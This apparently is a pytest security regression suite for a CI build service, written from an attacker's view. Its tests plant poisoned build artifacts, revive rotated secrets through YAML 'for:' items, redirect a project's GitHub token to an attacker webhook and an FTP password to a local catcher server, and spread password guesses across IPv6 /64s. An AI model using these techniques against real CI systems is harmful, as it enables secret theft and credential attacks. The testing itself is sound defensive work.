"""A third review of issue 34, as an attacker: what the mends of the second review left open."""

from __future__ import annotations

import time
from typing import Any

import pytest
import requests

from tests.builds import BuildProject, appveyor_yml
from tests.gitserver import GitServer
from tests.peers import WebhookReceiver
from tests.support import Account, Caller, member_of_role, unique

# the build's file is whatever its PAYLOAD says (any variable a build's tools read would do: TAR_OPTIONS...)
YML = appveyor_yml(
    "build_script:",
    '  - mkdir -p out && echo "${PAYLOAD:-genuine}" > out/app.txt',
    "artifacts:",
    "  - path: out/app.txt",
)


@pytest.fixture
def builder(account: Account) -> Caller:
    """A member whose role may run builds, and nothing else."""
    role = account.add_role(unique("builders"), {"RunProjectBuild"})
    return member_of_role(account, role["name"])


def fetch(project: BuildProject, query: str, caller: Caller) -> str:
    reply = caller.get(f"{project.path}/artifacts/out/app.txt{query}")
    if reply.status != 302:
        return f"{reply.status} {reply.json['message']}"
    return requests.get(reply.headers["Location"], timeout=10).text.strip()


def test_a_build_started_with_variables_by_a_builder_is_not_served_as_the_branchs_artifact_by_the_permalink(
    account: Account, git_server: GitServer, pump: Any, builder: Caller
) -> None:
    # a public project's README links ?branch=master: the permalink passes over pull requests' builds (their code
    # is anyone's); a build a builder's variables shaped is treated as a pull request's everywhere else (cache,
    # inline deployments, version), yet its file is served as the branch's to every visitor and to pr=false
    project = BuildProject(account, git_server, {"appveyor.yml": YML})
    genuine = project.run()
    assert genuine["status"] == "success", genuine
    settings = account.api.get(f"{project.path}/settings").json["settings"]
    assert account.api.put("/projects", {**settings, "isPrivate": False}).status == 204
    body = {"accountName": project.project["accountName"], "projectSlug": project.project["slug"], "branch": "master"}
    started = builder.post("/builds", {**body, "environmentVariables": {"PAYLOAD": "poisoned"}})
    assert started.status == 200, started.body
    assert project.wait(started.json["version"])["status"] == "success"

    visitor = Caller(account.client, None, "/api")
    assert fetch(project, "?branch=master", visitor) == "genuine"
    assert fetch(project, "?branch=master&pr=false", account.api) == "genuine"


def _secure_variable(name: str, value: str) -> dict[str, Any]:
    return {"name": name, "value": {"isEncrypted": True, "value": value}}


def test_a_project_updater_brings_back_a_rotated_secret_through_a_for_item_of_the_settings_yaml(
    account: Account, git_server: GitServer, pump: Any
) -> None:
    # the settings JSON and the variables route refuse a token read before the secret was set again (second
    # review's mend); the settings YAML kept as written checks only its default branch's configuration: a for:
    # item for another branch takes the old token, and that branch's builds decrypt the leaked secret again
    project = BuildProject(account, git_server, {"README.md": "no appveyor.yml: the project's settings build"})
    project.repository.commit({"README.md": "release"}, branch="release")
    variables = f"{project.path}/settings/environment-variables"
    assert account.api.put(variables, [_secure_variable("SECRET", "the-leaked-secret")]).status == 204
    (old,) = [item["value"]["value"] for item in account.api.get(variables).json if item["name"] == "SECRET"]
    assert account.api.put(variables, [_secure_variable("SECRET", "the-rotated-secret")]).status == 204
    (rotated,) = [item["value"]["value"] for item in account.api.get(variables).json if item["name"] == "SECRET"]
    text = "\n".join(
        [
            "environment:",
            "  SECRET:",
            f"    secure: {rotated}",
            "build_script:",
            '  - echo "SEEN=$(echo "$SECRET" | rev)"',
            "for:",
            "  - branches:",
            "      only:",
            "        - release",
            "    environment:",
            "      SECRET:",
            f"        secure: {old}",
            "",
        ]
    )

    reply = account.api.put(f"{project.path}/settings/yaml", raw=text.encode(), headers={"Content-Type": "text/plain"})
    seen = ""
    if reply.status == 204:
        build = project.run(branch="release")
        seen = project.log(build["jobs"][0]["jobId"])

    assert "SEEN=terces-dekael-eht" not in seen  # the leaked secret, reversed past the mask
    assert reply.status == 400, reply.body


def test_a_pusher_sends_the_projects_github_token_of_a_notification_to_their_own_url(
    account: Account, git_server: GitServer, pump: Any
) -> None:
    # appveyor.yml keeps a GitHubPullRequest entry's auth_token (a GitHub token) as the project's secure token, as
    # AppVeyor's docs do it. A deploy: entry's secrets are bound to its destination so that one who may push a
    # branch cannot point them at a server of theirs; a notification's secrets are bound to their key alone: the
    # pusher's branch names the token under a Webhook entry's header of the same key, at a URL of theirs
    project = BuildProject(account, git_server, {"README.md": "first"})
    settings = account.api.get(f"{project.path}/settings").json["settings"]
    github = {"provider": "GitHubPullRequest", "settings": {"auth_token": "ghp_the-projects-github-token"}}
    settings["configuration"]["notifications"] = [github]
    assert account.api.put("/projects", settings).status == 204
    stored = account.api.get(f"{project.path}/settings").json["settings"]["configuration"]["notifications"]
    token = stored[0]["settings"]["auth_token"]["secure"]  # as the settings show it, to copy into appveyor.yml
    project.repository.commit(
        {
            "appveyor.yml": appveyor_yml(
                "build_script:",
                "  - echo hi",
                "notifications:",
                "  - provider: GitHubPullRequest",
                "    auth_token:",
                f"      secure: {token}",
            )
        }
    )
    with WebhookReceiver() as attacker:
        pushed = appveyor_yml(
            "build_script:",
            "  - echo hi",
            "notifications:",
            "  - provider: Webhook",
            f"    url: {attacker.url}/collect",
            "    headers:",
            "      auth_token:",
            f"        secure: {token}",  # read from the repository's appveyor.yml
            "    on_build_success: true",
        )
        project.repository.commit({"appveyor.yml": pushed}, branch="feature")
        build = project.run(branch="feature")
        assert build["status"] == "success", build
        time.sleep(3)  # a notification that was sent has landed by now
        received = [request.headers.get("auth_token") for request in attacker.requests]

    assert "ghp_the-projects-github-token" not in received
    messages = [message["message"] for message in project.build(build["version"])["messages"]]
    assert any("(Webhook) was not sent: its secure auth_token is not a secret" in message for message in messages)


def test_one_ipv6_48_guesses_a_password_once_per_64_past_the_limit_everywhere(
    account: Account, client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # L1's mend: past the limit everywhere, a client with no failure of its own still has its password checked. A
    # client is an IPv6 /64, and one /48 (a free tunnel broker's) holds 65,536 of them: the limit everywhere, 100 a
    # window, becomes 65,636 guesses a window for whoever holds a /48 (a botnet's IPv4 addresses do the same)
    from chalicelib.domain.team import sessions
    from tests.functional.test_sessions import add_user_with_password, from_address, pin_failure_window, sign_in

    pin_failure_window(monkeypatch)
    email = add_user_with_password(account)
    for index in range(sessions.MAX_FAILED_SIGN_INS_EVERYWHERE // sessions.MAX_FAILED_SIGN_INS):
        from_address(client, monkeypatch, f"2001:db8:77:{index:x}::1")
        for _ in range(sessions.MAX_FAILED_SIGN_INS):
            assert sign_in(client, email, "a wrong guess").status == 401
    checked = 0
    for index in range(100, 160):  # 60 more /64s of the same /48
        from_address(client, monkeypatch, f"2001:db8:77:{index:x}::1")
        checked += sign_in(client, email, "a wrong guess").status == 401

    assert checked <= sessions.MAX_FAILED_SIGN_INS, f"{checked} more password checks past the limit everywhere"


class _PasswordCatcher:
    """A server on 127.0.0.1 that greets as FTP does and keeps the password each client sends."""

    def __init__(self) -> None:
        import socket
        import threading

        self.passwords: list[str] = []
        self._listener = socket.socket()
        self._listener.bind(("127.0.0.1", 0))
        self._listener.listen(4)
        self._listener.settimeout(0.2)
        self.address = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._listener.accept()
            except OSError:
                continue
            with connection, connection.makefile("rwb") as stream:
                stream.write(b"220 hello\r\n")
                stream.flush()
                for raw in stream:
                    line = raw.decode(errors="replace").strip()
                    if line.upper().startswith("PASS "):
                        self.passwords.append(line[5:])
                        stream.write(b"530 no\r\n")
                        stream.flush()
                        break
                    stream.write(b"331 go on\r\n" if line.upper().startswith("USER ") else b"500 ?\r\n")
                    stream.flush()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self._listener.close()


def test_a_project_updater_moves_a_deployment_password_to_their_server_with_a_secure_server_setting(
    account: Account, git_server: GitServer, pump: Any
) -> None:
    # a deploy: entry's secrets are bound to its destination settings as written, but a secure one is left out of
    # the binding: the FTP provider reads server before host, so an updater who adds a secure server of theirs
    # keeps the entry's host, and with it the stored password's token, which still decrypts: one update, no
    # secret sent again (an environment's update would be refused; a project's has no such check)
    import yaml as yaml_module

    from tests.deployments import ARTIFACTS_YML

    updater_role = account.add_role(unique("updaters"), {"UpdateProjectSettings"})
    updater = member_of_role(account, updater_role["name"])
    catcher = _PasswordCatcher()
    try:
        project = BuildProject(account, git_server, {"README.md": "the project's settings build"})
        yaml_path = f"{project.path}/settings/yaml"
        text = ARTIFACTS_YML + appveyor_yml(
            "deploy:",
            "  - provider: FTP",
            "    host: ftp.release.example:21",
            "    username: deployer",
            "    password:",
            "      secure: the-release-password",
        )
        put = account.api.put(yaml_path, raw=text.encode(), headers={"Content-Type": "text/plain"})
        assert put.status == 204, put.body

        read = updater.get(yaml_path)
        assert read.status == 200, read.body
        document = yaml_module.safe_load(read.body)
        entry = document["deploy"][0] if isinstance(document["deploy"], list) else document["deploy"]
        entry["server"] = {"secure": catcher.address}  # the password's token and host stay as read
        document["deploy"] = [entry]
        moved = updater.put(
            yaml_path, raw=yaml_module.safe_dump(document).encode(), headers={"Content-Type": "text/plain"}
        )

        if moved.status == 204:  # the next build of the project delivers
            build = project.run()
            assert build["status"] == "success", build
            deadline = time.monotonic() + 20
            while not catcher.passwords and time.monotonic() < deadline:
                time.sleep(0.2)
    finally:
        catcher.close()

    assert "the-release-password" not in catcher.passwords
    assert moved.status == 400, moved.body
